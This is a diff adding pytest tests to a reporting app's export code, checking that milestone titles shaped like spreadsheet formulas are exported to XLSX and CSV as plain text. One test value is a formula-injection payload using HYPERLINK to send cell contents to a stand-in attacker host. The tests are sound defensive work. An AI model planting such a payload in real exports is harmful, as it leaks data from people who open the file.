@@ -569,3 +569,41 @@ def test_the_report_list_runs_a_constant_number_of_queries(client, manager, djan
     add_reports(10)
     with django_assert_num_queries(len(small.captured_queries)):
         assert client.get(url).content.decode().count('data-testid="report-row"') == 12
+
+
+HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.mark.parametrize("typed", [HOSTILE_TITLE, "+1+2", "-3+4", "@SUM(A1)"])
+def test_text_that_looks_like_a_formula_is_exported_as_text_never_as_a_formula(demo, typed):
+    # given: a milestone someone titled like a spreadsheet formula
+    snapshot = reports.build_snapshot(Period.parse(PERIOD))
+    snapshot["late_milestones"] = [
+        {"initiative_fa": "ابتکار", "initiative_en": "Initiative", "title": typed, "agency": "DOE",
+         "due_on": "1405/08/01", "days_late": 3}
+    ]  # fmt: skip
+
+    # when
+    workbook = load_workbook(io.BytesIO(exports.to_xlsx(snapshot, "en")))
+    rows = list(csv.reader(io.StringIO(exports.to_csv(snapshot, "en").decode("utf-8-sig"))))
+
+    # then: Excel holds the title as a text cell with exactly what was typed
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell.value for cell in cells if cell.data_type == "f"] == []
+    assert typed in [cell.value for cell in cells]
+    # and no CSV cell starts a formula
+    assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))] == []
+
+
+def test_ordinary_numbers_stay_numbers_in_the_excel_export(demo):
+    snapshot = reports.build_snapshot(Period.parse(PERIOD))
+
+    workbook = load_workbook(io.BytesIO(exports.to_xlsx(snapshot, "en")))
+
+    numeric = [
+        cell.value
+        for row in workbook["Indicators"].iter_rows(min_row=2)
+        for cell in row
+        if cell.data_type == "n"
+    ]
+    assert numeric and all(isinstance(value, int | float) or value is None for value in numeric)
